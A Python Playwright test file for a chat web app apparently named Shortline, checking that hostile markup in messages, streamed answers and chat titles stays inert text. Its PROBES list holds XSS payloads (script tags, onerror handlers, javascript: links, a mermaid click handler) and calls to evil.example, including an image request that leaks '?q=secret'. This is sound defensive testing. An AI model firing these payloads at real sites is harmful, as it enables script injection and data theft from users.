"""Text that wants to be more than text: in questions, answers and titles."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.browser.chat import Chat
from tests.browser.conftest import NewChat
from tests.browser.server import Server
from tests.browser.watch import Watch

pytestmark = [pytest.mark.browser, pytest.mark.slow]

ACT = "window.hacked=1;alert(1)"
DIAGRAM = f"""\
```mermaid
graph TD
  A["<img src=x onerror={ACT}>"] --> B
  click A "javascript:{ACT}"
```"""
PROBES = [
    f"<script>{ACT}</script>",
    f'<img src="https://evil.example/a.png" onerror="{ACT}">',
    f'<img src=/nothing-here onerror="{ACT}">',
    f'<svg onload="{ACT}"><script>{ACT}</script><use href="https://evil.example/#a"/></svg>',
    f'<svg><a xlink:href="javascript:{ACT}"><text y="20">svg link</text></a></svg>',
    f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}>",
    f"[a link](javascript:{ACT}) [another](JaVaScRiPt&colon;{ACT}) <javascript:{ACT}>",
    f"[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vb](vbscript:{ACT})",
    "![picture](https://evil.example/pixel.png?q=secret)",
    "![](//evil.example/pixel.png) ![x][r]\n\n[r]: https://evil.example/r.png",
    '<link rel=stylesheet href="https://evil.example/a.css">',
    '<style>@import "https://evil.example/a.css"</style>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name=a autofocus><button>send</button></form>',
    f'<details open ontoggle="{ACT}"><summary>x</summary></details><video src=x onerror="{ACT}">',
    f"$$\\href{{javascript:{ACT}}}{{x}} \\includegraphics{{https://evil.example/a.png}}$$",
    DIAGRAM,
    f"```html\n</code></pre><script>{ACT}</script>\n```",
    '<div style="position:fixed;inset:0;background:url(https://evil.example/b.png)">over</div>',
]
IN_ORDER = """
() => {
    const log = document.querySelector('[role=log]')
    const bad = 'script, img, iframe, object, embed, form, input, video, audio, style, link, meta'
    const found = [...log.querySelectorAll('.md')].flatMap(md => [...md.querySelectorAll(bad)])
    const links = [...log.querySelectorAll('[href]')].map(a => a.getAttribute('href'))
    return {
        hacked: window.hacked,
        // A diagram that was drawn brings its own styles, inside its own picture.
        elements: found.filter(e => !e.closest('svg[id]')).map(e => e.outerHTML),
        links: links.filter(href => !/^(https?:|mailto:|#)/i.test(href)),
        handlers: [...log.querySelectorAll('*')].flatMap(e => e.getAttributeNames())
            .filter(name => name.startsWith('on')),
    }
}
"""
HARMLESS: dict[str, object] = {"hacked": None, "elements": [], "links": [], "handlers": []}


LOADED = {"image", "media", "document", "object", "ping", "websocket"}
INERT = "Executing inline event handler violates the following Content Security Policy"
"""Mermaid cleans its labels in a document apart, where nothing runs; Chromium reports that too."""


def test_hostile_questions_and_answers_stay_text(chat: Chat, server: Server, watch: Watch) -> None:
    watch.expect(INERT)
    loaded: list[str] = []
    chat.page.on("request", lambda r: loaded.append(r.url) if r.resource_type in LOADED else None)
    together = "\n\n".join(PROBES)
    chat.ask(together)
    assert server.last(chat.id).response == together
    for probe in PROBES:
        chat.ask(probe)
        assert chat.page.evaluate(IN_ORDER) == HARMLESS, probe
    expect(chat.turns.nth(PROBES.index(DIAGRAM) + 1).locator(".md-diagram svg")).to_be_visible()
    assert loaded == []
    chat.page.reload()
    expect(chat.turns).to_have_count(len(PROBES) + 1)
    chat.pause(1)
    assert chat.page.evaluate(IN_ORDER) == HARMLESS
    expect(chat.page).to_have_url(f"{server.url}/c/{chat.id}")


def test_a_hostile_answer_stays_text_while_it_is_written(chat: Chat, watch: Watch) -> None:
    """A tag that is not closed yet must not be one either."""
    watch.expect(INERT)
    chat.choose("slow").send("\n\n".join(PROBES))
    expect(chat.turns).to_have_count(1)
    while chat.turns.locator("[aria-busy=true]").count():
        assert chat.page.evaluate(IN_ORDER) == HARMLESS
        chat.pause(0.05)
    assert chat.page.evaluate(IN_ORDER) == HARMLESS


def test_a_hostile_title_stays_text(new_chat: NewChat, server: Server) -> None:
    title = f'<img src=x onerror="{ACT}"><b>T</b>'
    id = server.ask("an innocent question")
    server.rename(id, title)
    chat = new_chat(server.url).open_chat(id)
    expect(chat.page).to_have_title(f"{title} · Shortline")
    expect(chat.row(title)).to_have_count(1)
    chat.page.keyboard.press("Control+K")
    palette = chat.page.get_by_role("dialog", name="Command palette")
    palette.get_by_role("textbox").fill("<img src=x")
    expect(palette.get_by_role("option", name=title)).to_be_visible()
    chat.page.keyboard.press("Escape")
    chat.row_menu(title, "Delete")
    dialog = chat.page.get_by_role("alertdialog")
    expect(dialog).to_contain_text(title)
    assert chat.page.locator("body img, body b").count() == 0
    assert chat.page.evaluate("window.hacked") is None
